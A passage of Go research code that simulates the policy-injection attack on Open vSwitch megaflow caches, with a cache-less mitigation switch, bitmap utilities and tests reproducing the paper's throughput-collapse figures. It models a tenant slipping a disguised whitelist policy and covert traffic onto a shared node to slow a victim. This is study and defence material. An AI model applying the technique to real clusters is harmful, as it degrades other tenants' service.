	"math/rand"
	"net/netip"
	"testing"

	"policyinject/internal/acl"
	"policyinject/internal/attack"
	"policyinject/internal/dataplane"
	"policyinject/internal/flow"
	"policyinject/internal/flowtable"
	"policyinject/internal/pkt"
)

func installACL(t testing.TB, sw *Switch, a *acl.ACL) {
	t.Helper()
	rules, err := a.Compile()
	if err != nil {
		t.Fatal(err)
	}
	for _, r := range rules {
		sw.InstallRule(r)
	}
}

func paperACL() *acl.ACL {
	return (&acl.ACL{}).Allow(acl.Entry{Src: netip.MustParsePrefix("10.0.0.0/8")})
}

func keyIPSrc(ip uint64) flow.Key {
	var k flow.Key
	k.Set(flow.FieldEthType, flow.EthTypeIPv4)
	k.Set(flow.FieldIPSrc, ip)
	return k
}

func TestVerdictsMatchACL(t *testing.T) {
	for _, mode := range []Mode{Direct, Linear} {
		sw := New(Config{Mode: mode})
		installACL(t, sw, paperACL())
		if d := sw.ProcessKey(0, keyIPSrc(0x0a010203)); d.Verdict.Verdict != flowtable.Allow {
			t.Errorf("mode %d: 10.1.2.3 denied", mode)
		}
		if d := sw.ProcessKey(0, keyIPSrc(0xc0000001)); d.Verdict.Verdict != flowtable.Deny {
			t.Errorf("mode %d: 192.0.0.1 allowed", mode)
		}
	}
}

func TestEmptyTableDefaultDeny(t *testing.T) {
	sw := New(Config{})
	if d := sw.ProcessKey(0, keyIPSrc(1)); d.Verdict.Verdict != flowtable.Deny {
		t.Fatal("empty baseline must deny")
	}
}

// TestImmuneToPolicyInjection is the mitigation claim: the covert stream
// does not change the baseline's per-packet cost, because there is no
// cache to poison. Cost (masks scanned) stays at the compiled constant.
func TestImmuneToPolicyInjection(t *testing.T) {
	atk := attack.TwoField()
	sw := New(Config{Name: "eswitch"})
	theACL, err := atk.BuildACL()
	if err != nil {
		t.Fatal(err)
	}
	installACL(t, sw, theACL)
	compiled := sw.NumSubtables()

	keys, _ := atk.Keys()
	before := sw.ProcessKey(0, keyIPSrc(0x0a000001)).MasksScanned
	for _, k := range keys { // the whole covert stream
		sw.ProcessKey(0, k)
	}
	after := sw.ProcessKey(0, keyIPSrc(0x0a000001)).MasksScanned
	if before != after {
		t.Fatalf("covert stream changed lookup cost: %d -> %d", before, after)
	}
	if after > compiled {
		t.Fatalf("scanned %d > compiled %d subtables", after, compiled)
	}
	if sw.NumSubtables() != compiled {
		t.Fatalf("covert stream changed the compiled matcher: %d -> %d", compiled, sw.NumSubtables())
	}
}

// TestDifferentialAgainstCachedDataplane: the baseline and the cached
// dataplane must agree on every verdict, for random policies and probes.
func TestDifferentialAgainstCachedDataplane(t *testing.T) {
	rng := rand.New(rand.NewSource(21))
	for trial := 0; trial < 30; trial++ {
		a := &acl.ACL{}
		for i := 0; i < 1+rng.Intn(6); i++ {
			e := acl.Entry{}
			if rng.Intn(2) == 0 {
				bits := rng.Intn(33)
				addr := netip.AddrFrom4([4]byte{10, byte(rng.Intn(4)), byte(rng.Intn(4)), byte(rng.Intn(4))})
				e.Src = netip.PrefixFrom(addr, bits)
			}
			if rng.Intn(2) == 0 {
				e.Proto = 6
				e.DstPort = acl.Port(uint16(rng.Intn(3) * 443))
			}
			a.Allow(e)
		}
		direct := New(Config{Mode: Direct})
		linear := New(Config{Mode: Linear})
		cached := dataplane.New("cached")
		rules, err := a.Compile()
		if err != nil {
			t.Fatal(err)
		}
		for _, r := range rules {
			direct.InstallRule(r)
			linear.InstallRule(r)
			cached.InstallRule(r)
		}
		for probe := 0; probe < 300; probe++ {
			k := flow.FiveTuple{
				Src:     netip.AddrFrom4([4]byte{10, byte(rng.Intn(4)), byte(rng.Intn(4)), byte(rng.Intn(4))}),
				Dst:     netip.MustParseAddr("172.16.0.1"),
				Proto:   6,
				SrcPort: uint16(rng.Intn(65536)),
				DstPort: uint16(rng.Intn(3) * 443),
			}.Key(0)
			vd := direct.ProcessKey(0, k).Verdict
			vl := linear.ProcessKey(0, k).Verdict
			vc := cached.ProcessKey(uint64(probe), k).Verdict
			if vd != vl || vd != vc {
				t.Fatalf("trial %d probe %d: direct=%v linear=%v cached=%v\n%s",
					trial, probe, vd, vl, vc, direct)
			}
		}
	}
}

func TestRemoveRule(t *testing.T) {
	sw := New(Config{})
	rules, _ := paperACL().Compile()
	var allowRule *flowtable.Rule
	for _, r := range rules {
		stored := sw.InstallRule(r)
		if r.Action.Verdict == flowtable.Allow {
			allowRule = stored
		}
	}
	if !sw.RemoveRule(allowRule) {
		t.Fatal("RemoveRule failed")
	}
	if sw.RemoveRule(allowRule) {
		t.Fatal("double remove succeeded")
	}
	if d := sw.ProcessKey(0, keyIPSrc(0x0a010203)); d.Verdict.Verdict != flowtable.Deny {
		t.Fatal("allow survived removal")
	}
	if sw.NumSubtables() != 1 {
		t.Fatalf("subtables = %d", sw.NumSubtables())
	}
}

func TestProcessFrame(t *testing.T) {
	sw := New(Config{})
	installACL(t, sw, paperACL())
	f := pkt.MustBuild(pkt.Spec{
		Src: netip.MustParseAddr("10.1.1.1"), Dst: netip.MustParseAddr("10.2.2.2"),
		Proto: pkt.ProtoUDP, SrcPort: 1, DstPort: 2,
	})
	d, err := sw.Process(0, 1, f)
	if err != nil || d.Verdict.Verdict != flowtable.Allow {
		t.Fatalf("d=%v err=%v", d, err)
	}
	if _, err := sw.Process(0, 1, []byte{0}); err == nil {
		t.Error("garbage accepted")
	}
	if sw.Counters().ParseError != 1 {
		t.Errorf("counters: %+v", sw.Counters())
	}
}

func TestFirstAddedWins(t *testing.T) {
	sw := New(Config{})
	a := (&acl.ACL{}).
		Deny(acl.Entry{Src: netip.MustParsePrefix("10.66.0.0/16")}).
		Allow(acl.Entry{Src: netip.MustParsePrefix("10.0.0.0/8")})
	installACL(t, sw, a)
	// 10.66.x is inside both; the deny came first.
	if d := sw.ProcessKey(0, keyIPSrc(0x0a420001)); d.Verdict.Verdict != flowtable.Deny {
		t.Fatal("first-added deny did not win")
	}
	if d := sw.ProcessKey(0, keyIPSrc(0x0a010001)); d.Verdict.Verdict != flowtable.Allow {
		t.Fatal("allow outside the exception denied")
	}
}
