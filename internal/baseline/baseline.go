// Package baseline implements the flow-cache-less soft switch the paper
// cites as a mitigation direction (ref [4], ESWITCH-style dataplane
// specialisation): every packet is classified directly against the
// compiled rule set, with no microflow or megaflow cache.
//
// Two matcher variants are provided:
//
//   - Direct: rules grouped into one hash table per distinct rule mask —
//     the same tuple space as the slow path, but over the *policy's* few
//     masks rather than the attacker-minted megaflow masks. Per-packet
//     cost is a small constant decided at compile time, which is the whole
//     point: traffic history cannot change the data structure, so policy
//     injection has nothing to poison.
//   - Linear: a straight first-match scan, the semantic reference.
//
// The trade-off the paper's demo discussion raises is visible in the
// benches: the baseline gives up the near-free EMC hits of cached OVS on
// friendly traffic, in exchange for immunity to the attack.
package baseline

import (
	"fmt"
	"sort"

	"policyinject/internal/cache"
	"policyinject/internal/dataplane"
	"policyinject/internal/flow"
	"policyinject/internal/flowtable"
)

// Mode selects the matcher implementation.
type Mode uint8

const (
	// Direct is the hash-per-rule-mask matcher (default).
	Direct Mode = iota
	// Linear is the straight scan reference.
	Linear
)

// Config assembles a baseline switch.
type Config struct {
	Name string
	Mode Mode
}

type subtable struct {
	mask        flow.Mask
	rules       map[flow.Key][]*flowtable.Rule
	maxPriority int
	nRules      int
}

// Switch is the cache-less dataplane. It implements the same ProcessKey
// and frame-first ProcessFrames contracts as dataplane.Switch so the
// simulator can drive either.
type Switch struct {
	cfg   Config
	table flowtable.Table

	subtables []*subtable
	byMask    map[flow.Mask]*subtable

	counters dataplane.Counters

	oneFrame dataplane.FrameBatch // scalar Process's one-frame batch
	oneOut   []dataplane.Decision
}

// New builds a baseline switch.
func New(cfg Config) *Switch {
	return &Switch{cfg: cfg, byMask: make(map[flow.Mask]*subtable)}
}

// Name returns the configured name.
func (s *Switch) Name() string { return s.cfg.Name }

// Tiers returns nil: the baseline has no cache hierarchy, which makes it a
// trivially valid (maintenance-free) revalidator target — there is nothing
// for a dump round to expire, trim or revalidate. That is the mitigation's
// whole argument, visible as a permanently flat dump.
func (s *Switch) Tiers() []dataplane.Tier { return nil }

// InstallRule adds a policy rule. Unlike the cached dataplane there is
// nothing to flush: the matcher is recompiled incrementally.
func (s *Switch) InstallRule(r flowtable.Rule) *flowtable.Rule {
	stored := s.table.Insert(r)
	st := s.byMask[stored.Match.Mask]
	if st == nil {
		st = &subtable{mask: stored.Match.Mask, rules: make(map[flow.Key][]*flowtable.Rule)}
		s.byMask[stored.Match.Mask] = st
		s.subtables = append(s.subtables, st)
	}
	mk := stored.Match.Mask.Apply(stored.Match.Key)
	bucket := st.rules[mk]
	i := sort.Search(len(bucket), func(i int) bool {
		b := bucket[i]
		if b.Priority != stored.Priority {
			return b.Priority < stored.Priority
		}
		return b.Seq() > stored.Seq()
	})
	bucket = append(bucket, nil)
	copy(bucket[i+1:], bucket[i:])
	bucket[i] = stored
	st.rules[mk] = bucket
	st.nRules++
	if st.nRules == 1 || stored.Priority > st.maxPriority {
		st.maxPriority = stored.Priority
	}
	sort.SliceStable(s.subtables, func(i, j int) bool {
		return s.subtables[i].maxPriority > s.subtables[j].maxPriority
	})
	return stored
}

// RemoveRule removes a rule previously installed.
func (s *Switch) RemoveRule(r *flowtable.Rule) bool {
	if !s.table.Remove(r) {
		return false
	}
	st := s.byMask[r.Match.Mask]
	mk := r.Match.Mask.Apply(r.Match.Key)
	bucket := st.rules[mk]
	for i, have := range bucket {
		if have == r {
			bucket = append(bucket[:i], bucket[i+1:]...)
			break
		}
	}
	if len(bucket) == 0 {
		delete(st.rules, mk)
	} else {
		st.rules[mk] = bucket
	}
	st.nRules--
	if st.nRules == 0 {
		delete(s.byMask, st.mask)
		for i, have := range s.subtables {
			if have == st {
				s.subtables = append(s.subtables[:i], s.subtables[i+1:]...)
				break
			}
		}
	}
	return true
}

// NumSubtables returns the compiled mask count — fixed by the policy, not
// by traffic.
func (s *Switch) NumSubtables() int { return len(s.subtables) }

// ProcessKey classifies one packet. The now parameter is accepted for
// interface parity with the cached dataplane and ignored: there is no
// cache state to age.
func (s *Switch) ProcessKey(_ uint64, k flow.Key) dataplane.Decision {
	s.counters.Packets++
	var best *flowtable.Rule
	scanned := 0
	switch s.cfg.Mode {
	case Linear:
		best = s.table.Lookup(k)
		scanned = s.table.Len()
	default:
		for _, st := range s.subtables {
			if best != nil && best.Priority > st.maxPriority {
				break
			}
			scanned++
			bucket := st.rules[st.mask.Apply(k)]
			if len(bucket) == 0 {
				continue
			}
			r := bucket[0]
			if best == nil || r.Priority > best.Priority ||
				(r.Priority == best.Priority && r.Seq() < best.Seq()) {
				best = r
			}
		}
	}
	v := cache.Verdict{Verdict: flowtable.Deny}
	if best != nil {
		v = best.Action
	}
	if v.Verdict == flowtable.Allow {
		s.counters.Allowed++
	} else {
		s.counters.Denied++
	}
	return dataplane.Decision{Verdict: v, Path: dataplane.PathSlow, MasksScanned: scanned}
}

// ProcessBatch classifies a batch of keys, writing one Decision per key
// into out (grown if needed) and returning it — the same batch contract as
// dataplane.Switch, so the simulator can drive either with NIC bursts.
func (s *Switch) ProcessBatch(now uint64, keys []flow.Key, out []dataplane.Decision) []dataplane.Decision {
	out = dataplane.GrowDecisions(out, len(keys))
	for i := range keys {
		out[i] = s.ProcessKey(now, keys[i])
	}
	return out
}

// ProcessFrames runs a burst of raw frames through extract + classify,
// writing one Decision per frame into out (grown if needed) and returning
// it — the same frame-first ingress contract as dataplane.Switch, so the
// simulator's measured cost includes the parse stage for the baseline
// too. Malformed frames are counted (ParseError) and denied without
// aborting the burst; read per-frame causes via fb.Err.
func (s *Switch) ProcessFrames(now uint64, fb *dataplane.FrameBatch, out []dataplane.Decision) []dataplane.Decision {
	out = dataplane.GrowDecisions(out, fb.Len())
	keys, errs, _ := fb.Extract()
	for i := range keys {
		if errs[i] != nil {
			s.counters.ParseError++
			s.counters.Packets++
			out[i] = dataplane.Decision{Verdict: cache.Verdict{Verdict: flowtable.Deny}}
			continue
		}
		out[i] = s.ProcessKey(now, keys[i])
	}
	return out
}

// Process parses and classifies one frame: the scalar shim over the
// frame-first entry point, as on dataplane.Switch.
func (s *Switch) Process(now uint64, inPort uint32, frame []byte) (dataplane.Decision, error) {
	fb := &s.oneFrame
	fb.Reset()
	fb.Append(frame, inPort)
	s.oneOut = s.ProcessFrames(now, fb, s.oneOut)
	return s.oneOut[0], fb.Err(0)
}

// Counters returns a snapshot of the counters.
func (s *Switch) Counters() dataplane.Counters { return s.counters }

// String summarises the matcher.
func (s *Switch) String() string {
	return fmt.Sprintf("baseline %q: %d rules in %d compiled masks (mode %d)",
		s.cfg.Name, s.table.Len(), len(s.subtables), s.cfg.Mode)
}
