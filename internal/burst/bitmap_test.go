package burst

import "testing"

func TestBitmapBasics(t *testing.T) {
	var b Bitmap
	b.Reset(130)
	if !b.Empty() || b.Count() != 0 || b.Len() != 130 {
		t.Fatalf("fresh bitmap: empty=%v count=%d len=%d", b.Empty(), b.Count(), b.Len())
	}
	for _, i := range []int{0, 63, 64, 129} {
		b.Set(i)
	}
	if b.Count() != 4 || b.Empty() {
		t.Fatalf("count = %d", b.Count())
	}
	if !b.Test(63) || b.Test(62) {
		t.Fatal("Test wrong")
	}
	b.Clear(63)
	if b.Test(63) || b.Count() != 3 {
		t.Fatal("Clear wrong")
	}
}

func TestBitmapSetAll(t *testing.T) {
	var b Bitmap
	for _, n := range []int{1, 63, 64, 65, 256} {
		b.Reset(n)
		b.SetAll()
		if b.Count() != n {
			t.Fatalf("SetAll(%d): count = %d", n, b.Count())
		}
		if b.Test(n-1) != true {
			t.Fatalf("SetAll(%d): top bit unset", n)
		}
	}
}

func TestBitmapReuseClears(t *testing.T) {
	var b Bitmap
	b.Reset(70)
	b.SetAll()
	b.Reset(70)
	if !b.Empty() {
		t.Fatal("Reset did not clear")
	}
}

func TestBitmapForEachAndClearDuring(t *testing.T) {
	var b Bitmap
	b.Reset(200)
	want := []int{3, 64, 65, 190}
	for _, i := range want {
		b.Set(i)
	}
	var got []int
	b.ForEach(func(i int) {
		got = append(got, i)
		if i == 64 {
			b.Clear(65) // clearing a later index must skip it
		}
	})
	exp := []int{3, 64, 190}
	if len(got) != len(exp) {
		t.Fatalf("got %v", got)
	}
	for i := range exp {
		if got[i] != exp[i] {
			t.Fatalf("got %v, want %v", got, exp)
		}
	}
}

func TestBitmapAndNot(t *testing.T) {
	var a, c Bitmap
	a.Reset(100)
	c.Reset(100)
	for _, i := range []int{1, 50, 64, 99} {
		a.Set(i)
	}
	c.Set(50)
	c.Set(99)
	got := a.AndNot(&c, nil)
	if len(got) != 2 || got[0] != 1 || got[1] != 64 {
		t.Fatalf("AndNot = %v", got)
	}
}

func TestBitmapCopyFrom(t *testing.T) {
	var a, b Bitmap
	a.Reset(80)
	a.Set(7)
	a.Set(77)
	b.CopyFrom(&a)
	if b.Len() != 80 || b.Count() != 2 || !b.Test(77) {
		t.Fatal("CopyFrom mismatch")
	}
	b.Clear(77)
	if !a.Test(77) {
		t.Fatal("CopyFrom aliases storage")
	}
}
