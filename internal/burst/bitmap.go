// Package burst provides the small fixed-size index sets the batched
// datapath sweeps: a burst of keys enters the tier pipeline with every bit
// set in a miss bitmap, and each tier pass clears the bits it resolves.
// Inverting the tier walk around this bitmap is what lets the megaflow
// TSS visit each subtable once per *burst* instead of once per packet —
// the dpcls_lookup structure of the OVS userspace datapath.
package burst

import "math/bits"

// Bitmap is a set of indices in [0, Len()). The zero value is an empty
// bitmap of length 0; use Reset to size it for a burst. Bitmaps are
// reused across bursts without reallocating.
type Bitmap struct {
	words []uint64
	n     int
}

// Reset sizes the bitmap for n indices and clears every bit.
func (b *Bitmap) Reset(n int) {
	nw := (n + 63) / 64
	if cap(b.words) < nw {
		b.words = make([]uint64, nw)
	}
	b.words = b.words[:nw]
	for i := range b.words {
		b.words[i] = 0
	}
	b.n = n
}

// Len returns the index capacity set by Reset.
func (b *Bitmap) Len() int { return b.n }

// Set adds index i to the set.
func (b *Bitmap) Set(i int) { b.words[i>>6] |= 1 << uint(i&63) }

// Clear removes index i from the set.
func (b *Bitmap) Clear(i int) { b.words[i>>6] &^= 1 << uint(i&63) }

// Test reports whether index i is in the set.
func (b *Bitmap) Test(i int) bool { return b.words[i>>6]&(1<<uint(i&63)) != 0 }

// SetAll adds every index in [0, Len()).
func (b *Bitmap) SetAll() {
	for i := range b.words {
		b.words[i] = ^uint64(0)
	}
	if tail := b.n & 63; tail != 0 && len(b.words) > 0 {
		b.words[len(b.words)-1] = (1 << uint(tail)) - 1
	}
}

// Count returns the number of set bits.
func (b *Bitmap) Count() int {
	n := 0
	for _, w := range b.words {
		n += bits.OnesCount64(w)
	}
	return n
}

// Empty reports whether no bits are set.
func (b *Bitmap) Empty() bool {
	for _, w := range b.words {
		if w != 0 {
			return false
		}
	}
	return true
}

// CopyFrom makes b an exact copy of o, reusing b's storage.
func (b *Bitmap) CopyFrom(o *Bitmap) {
	if cap(b.words) < len(o.words) {
		b.words = make([]uint64, len(o.words))
	}
	b.words = b.words[:len(o.words)]
	copy(b.words, o.words)
	b.n = o.n
}

// Words exposes the backing words (64 indices per word, LSB first) for
// allocation-free iteration in hot sweeps. Callers may clear bits via
// Clear while iterating a snapshot word but must not resize the bitmap.
func (b *Bitmap) Words() []uint64 { return b.words }

// ForEach calls fn for every set index in ascending order. fn may clear
// the current or any earlier index; clearing later indices mid-iteration
// skips them, and setting new bits mid-iteration is not supported.
func (b *Bitmap) ForEach(fn func(i int)) {
	for wi := range b.words {
		w := b.words[wi]
		for w != 0 {
			i := wi<<6 + bits.TrailingZeros64(w)
			w &= w - 1
			if b.words[wi]&(1<<uint(i&63)) != 0 { // still set?
				fn(i)
			}
		}
	}
}

// AndNot returns the indices set in a but not in o, appended to dst.
// Used to enumerate the keys a tier pass just resolved (prev &^ miss).
func (b *Bitmap) AndNot(o *Bitmap, dst []int) []int {
	for wi := range b.words {
		w := b.words[wi]
		if wi < len(o.words) {
			w &^= o.words[wi]
		}
		for w != 0 {
			dst = append(dst, wi<<6+bits.TrailingZeros64(w))
			w &= w - 1
		}
	}
	return dst
}
