package sim

import (
	"net/netip"
	"testing"
	"time"

	"policyinject/internal/attack"
	"policyinject/internal/dataplane"
	"policyinject/internal/flow"
	"policyinject/internal/flowtable"
	"policyinject/internal/traffic"
)

func TestThroughputModel(t *testing.T) {
	// 1 µs per packet on one core = 1 Mpps capacity.
	if got := Throughput(time.Microsecond, 2e6); got != 1e6 {
		t.Errorf("capacity-bound = %g", got)
	}
	if got := Throughput(time.Microsecond, 5e5); got != 5e5 {
		t.Errorf("offer-bound = %g", got)
	}
	if got := Throughput(0, 7); got != 7 {
		t.Errorf("zero cost = %g", got)
	}
}

func TestGbpsConversions(t *testing.T) {
	// 1514-byte frames at line-rate GbE: 1e9 / ((1514+20)*8) = 81,486 pps.
	pps := PPSFor(1.0, 1514)
	if pps < 81000 || pps > 82000 {
		t.Errorf("PPSFor = %g", pps)
	}
	if got := Gbps(pps, 1514); got < 0.999 || got > 1.001 {
		t.Errorf("round trip = %g", got)
	}
}

func TestMeasureCostSane(t *testing.T) {
	sw := dataplane.New("cached")
	sw.InstallRule(flowtable.Rule{Priority: 0, Action: flowtable.Action{Verdict: flowtable.Allow}})
	gen := traffic.NewVictim(traffic.VictimConfig{
		Src: netip.MustParseAddr("10.0.0.1"),
		Dst: netip.MustParseAddr("10.0.0.2"),
	})
	cost := MeasureCost(sw, gen, 1, 64)
	if cost <= 0 || cost > time.Millisecond {
		t.Errorf("cost = %v", cost)
	}
}

// TestSweepMonotoneDegradation is experiment E5's core assertion: lookup
// cost grows with mask count, and the 512-mask point sits at or below
// ~10-20%% of the single-mask peak — the paper claims "slowing it down to
// 10%% of the peak performance".
func TestSweepMonotoneDegradation(t *testing.T) {
	res, err := RunSweep([]int{1, 8, 64, 512}, 256)
	if err != nil {
		t.Fatal(err)
	}
	pts := res.Points
	if len(pts) != 4 {
		t.Fatalf("points = %d", len(pts))
	}
	for i := 1; i < len(pts); i++ {
		if pts[i].CostPerPkt <= pts[i-1].CostPerPkt {
			t.Errorf("cost not increasing: %v", pts)
		}
	}
	if pts[0].RelativePeak != 1 {
		t.Errorf("first point relative peak = %v", pts[0].RelativePeak)
	}
	// Generous bound for noisy CI machines: at 512 masks the victim must
	// have lost at least three quarters of peak (paper: ~90%).
	if pts[3].RelativePeak > 0.25 {
		t.Errorf("512 masks retains %.1f%% of peak; expected <= 25%%\n%s",
			pts[3].RelativePeak*100, res.Table())
	}
}

func TestSweepRejectsBadCounts(t *testing.T) {
	if _, err := RunSweep([]int{0}, 16); err == nil {
		t.Error("mask count 0 accepted")
	}
	if _, err := RunSweep([]int{9000}, 16); err == nil {
		t.Error("mask count beyond 8192 accepted")
	}
}

// TestFig3ShapeSmall runs a scaled-down Fig. 3 (20 s, 512-mask attack at
// t=5) and asserts the paper's qualitative shape: flat before, collapsed
// after, mask count jumping from a handful to the predicted hundreds.
func TestFig3ShapeSmall(t *testing.T) {
	res, err := RunFig3(Fig3Config{
		Duration:    20,
		AttackStart: 5,
		Attack:      attack.TwoField(),
		CostSamples: 32,
		// Small frames raise the offered packet rate so the 512-mask
		// attack is visible; the paper's 512-mask claim is likewise
		// about packet-rate peak, with Fig. 3's Gbps collapse reserved
		// for the 8192-mask attack (TestFig3FullScale).
		FrameLen: 128,
	})
	if err != nil {
		t.Fatal(err)
	}
	// Generous floor: with parallel test packages loading both cores the
	// timed samples can wobble; the assertion is "near offered load",
	// not a precise 0.95.
	if res.MeanBefore < 0.75 {
		t.Errorf("pre-attack throughput %.3f Gbps; victim should saturate its offered load", res.MeanBefore)
	}
	if res.Degradation() < 0.5 {
		t.Errorf("degradation %.0f%%; expected the attack to bite\n%v", res.Degradation()*100, res)
	}
	// Mask trajectory: single digits before, hundreds after.
	if before := res.Masks.At(4); before > 20 {
		t.Errorf("masks before attack = %g", before)
	}
	if after := res.Masks.At(19); after < 450 {
		t.Errorf("masks after attack = %g, want ~512", after)
	}
}

// TestFig3FullScale reproduces the paper's actual Fig. 3 configuration —
// 8192 masks via the three-field Calico attack, MTU frames — at a
// shortened timeline. Skipped with -short: the covert stream's own
// processing is expensive by design.
func TestFig3FullScale(t *testing.T) {
	if testing.Short() {
		t.Skip("full 8192-mask Fig. 3 timeline is slow")
	}
	res, err := RunFig3(Fig3Config{
		Duration:    40,
		AttackStart: 10,
		CostSamples: 32,
	})
	if err != nil {
		t.Fatal(err)
	}
	if res.MeanBefore < 0.75 {
		t.Errorf("pre-attack %.3f Gbps", res.MeanBefore)
	}
	if res.Degradation() < 0.5 {
		t.Errorf("full-scale degradation only %.0f%%: %v", res.Degradation()*100, res)
	}
	if res.PeakMasks < 7000 {
		t.Errorf("peak masks = %g, want ~8192 (shared tries with the victim policy shave a few)", res.PeakMasks)
	}
}

// TestFig3VictimKeysDistinctFromAttack guards the scenario plumbing: the
// covert keys must carry the attacker pod's port, not the victim's.
func TestFig3CovertKeysScoped(t *testing.T) {
	atk := attack.TwoField()
	keys, err := atk.Keys()
	if err != nil {
		t.Fatal(err)
	}
	for _, k := range keys {
		if k.Get(flow.FieldEthType) != flow.EthTypeIPv4 {
			t.Fatal("covert key not IPv4")
		}
	}
}
