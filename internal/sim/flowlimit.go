package sim

import (
	"fmt"
	"net/netip"

	"policyinject/internal/acl"
	"policyinject/internal/attack"
	"policyinject/internal/cms"
	"policyinject/internal/dataplane"
	"policyinject/internal/metrics"
	"policyinject/internal/revalidator"
	"policyinject/internal/traffic"
)

// FlowLimitConfig parameterises the flow-limit collapse timeline: the
// scenario family the revalidator subsystem unlocks. The paper's attack
// economics continue past the cache fill — OVS revalidators dump the
// flows, the attacker-bloated dump overruns its interval, and the backoff
// heuristic slashes the datapath flow limit, trimming resident flows and
// locking the rest out of the cache. This timeline plots the limit (and
// the trim) tick by tick, with the heuristic on or off.
type FlowLimitConfig struct {
	Duration    int // ticks, default 120
	AttackStart int // tick the covert stream starts, default 20
	// Attack is the configured attack; default ThreeField (8192 masks).
	Attack *attack.Attack
	// FixedLimit disables the OVS backoff heuristic, pinning the limit at
	// the ceiling — the A/B control run. Default false: stock OVS adapts.
	FixedLimit bool
	// Interval is the revalidator round period in ticks (default 5).
	Interval uint64
	// Workers is the revalidator thread count (default 2).
	Workers int
	// DumpRate is flows dumped per worker per tick (default 200 — a slow
	// dump path, the regime where the heuristic engages; the real OVS
	// equivalent is a dump slowed by per-flow revalidation against the
	// attacker's enormous rule set).
	DumpRate float64
	// FlowLimit / MinFlowLimit bound the heuristic (defaults: the OVS
	// 200000 ceiling and 2000 floor).
	FlowLimit    int
	MinFlowLimit int
	// CostSamples is the per-tick victim measurement batch; default 32.
	CostSamples int
	// VictimGbps / FrameLen shape the victim load as in Fig3Config.
	VictimGbps float64
	FrameLen   int
}

func (c *FlowLimitConfig) setDefaults() {
	if c.Duration == 0 {
		c.Duration = 120
	}
	if c.AttackStart == 0 {
		c.AttackStart = 20
	}
	if c.Attack == nil {
		c.Attack = attack.ThreeField()
	}
	if c.Interval == 0 {
		c.Interval = 5
	}
	if c.Workers == 0 {
		c.Workers = 2
	}
	if c.DumpRate == 0 {
		c.DumpRate = 200
	}
	if c.CostSamples == 0 {
		c.CostSamples = 32
	}
	if c.VictimGbps == 0 {
		c.VictimGbps = 0.95
	}
	if c.FrameLen == 0 {
		c.FrameLen = 1514
	}
}

// FlowLimitResult carries the recorded timeline and its summary.
type FlowLimitResult struct {
	// Timeline holds one sample per tick of: flow_limit, dump_units,
	// flows_dumped, evicted_idle, evicted_limit (the revalidator gauges),
	// plus mf_entries, mf_masks and victim_gbps.
	Timeline *metrics.Group

	InitialLimit int
	FinalLimit   int
	Overruns     uint64 // dump rounds that overran twice their interval
	LimitEvicted uint64 // total entries trimmed by flow-limit cuts
}

// Collapsed reports whether the flow limit backed off at all.
func (r *FlowLimitResult) Collapsed() bool { return r.FinalLimit < r.InitialLimit }

func (r *FlowLimitResult) String() string {
	return fmt.Sprintf("flow limit %d -> %d (%d overrun dumps, %d flows trimmed by limit cuts)",
		r.InitialLimit, r.FinalLimit, r.Overruns, r.LimitEvicted)
}

// RunFlowLimit runs the collapse timeline: the fig-3 cluster layout, the
// covert stream from AttackStart on, and a revalidator whose dump rate is
// slow enough that the attacker-bloated flow table overruns the dump
// interval. With the heuristic on (the default) the flow limit collapses
// toward the floor, the next dumps trim the now-over-limit residents by
// staleness, and the collapsed limit locks everything beyond the surviving
// flow set out of the cache (installs rejected, per-packet upcalls); with
// FixedLimit it holds flat.
func RunFlowLimit(cfg FlowLimitConfig) (*FlowLimitResult, error) {
	cfg.setDefaults()

	cluster := cms.NewCluster()
	// The kernel-datapath model of fig 3: no EMC, so the victim's cost
	// tracks the mask population the limit dynamics reshape.
	cluster.SwitchOpts = []dataplane.Option{dataplane.WithoutEMC()}
	rev := revalidator.New(revalidator.Config{
		Interval:     cfg.Interval,
		Workers:      cfg.Workers,
		DumpRate:     cfg.DumpRate,
		FlowLimit:    cfg.FlowLimit,
		MinFlowLimit: cfg.MinFlowLimit,
		FixedLimit:   cfg.FixedLimit,
	})
	cluster.AttachRevalidator(rev)
	if _, err := cluster.AddNode("server-1"); err != nil {
		return nil, err
	}
	victimSrv, err := cluster.DeployPod("victim-corp", "iperf-server", "server-1")
	if err != nil {
		return nil, err
	}
	attackerPod, err := cluster.DeployPod("mallory", "probe", "server-1")
	if err != nil {
		return nil, err
	}
	sw := victimSrv.Node.Switch

	victimClient := netip.MustParseAddr("10.10.0.5")
	if err := cluster.ApplyPolicy("victim-corp", "iperf-server", &cms.Policy{
		Name: "iperf-ingress",
		Ingress: []acl.Entry{{
			Src:     netip.PrefixFrom(victimClient, 24).Masked(),
			Proto:   6,
			DstPort: acl.Port(5201),
		}},
	}); err != nil {
		return nil, err
	}
	victim := traffic.NewVictim(traffic.VictimConfig{
		Src:      victimClient,
		Dst:      victimSrv.IP,
		Flows:    8,
		InPort:   victimSrv.Port,
		FrameLen: cfg.FrameLen,
	})

	atk := cfg.Attack
	atk.DstIP = attackerPod.IP
	covertKeys, err := atk.Keys()
	if err != nil {
		return nil, err
	}
	covertFrames, err := atk.Frames()
	if err != nil {
		return nil, err
	}
	replay := traffic.NewReplayer(covertKeys).WithFrames(covertFrames, attackerPod.Port)
	// Cycle the whole covert sequence every 2.5 ticks, as in fig 3: fast
	// enough that trimmed flows reinstall before the next dump.
	pacer := &traffic.Pacer{PPS: float64(len(covertKeys)) / 2.5}
	offeredPPS := PPSFor(cfg.VictimGbps, cfg.FrameLen)

	res := &FlowLimitResult{Timeline: &metrics.Group{}, InitialLimit: rev.FlowLimit()}

	injected := false
	var covertBurst dataplane.FrameBatch
	var covertOut []dataplane.Decision
	for t := 0; t < cfg.Duration; t++ {
		now := uint64(t)
		if !injected && t >= cfg.AttackStart {
			theACL, err := atk.BuildACL()
			if err != nil {
				return nil, err
			}
			if err := cluster.ApplyPolicy("mallory", "probe", &cms.Policy{
				Name:                "innocuous-whitelist",
				Ingress:             theACL.Entries,
				AllowSrcPortFilters: true,
			}); err != nil {
				return nil, err
			}
			injected = true
		}
		if injected {
			covertBurst.Reset()
			for i := pacer.Take(1); i > 0; i-- {
				covertBurst.Append(replay.NextFrame())
			}
			covertOut = sw.ProcessFrames(now, &covertBurst, covertOut)
		}
		cost := MeasureCost(sw, victim, now, cfg.CostSamples)
		rev.Tick(now)

		ts := float64(t)
		rev.Observe(res.Timeline, ts)
		res.Timeline.Observe(ts, "mf_entries", float64(sw.Megaflow().Len()))
		res.Timeline.Observe(ts, "mf_masks", float64(sw.Megaflow().NumMasks()))
		res.Timeline.Observe(ts, "victim_gbps", Gbps(Throughput(cost, offeredPPS), cfg.FrameLen))
	}

	st := rev.Stats()
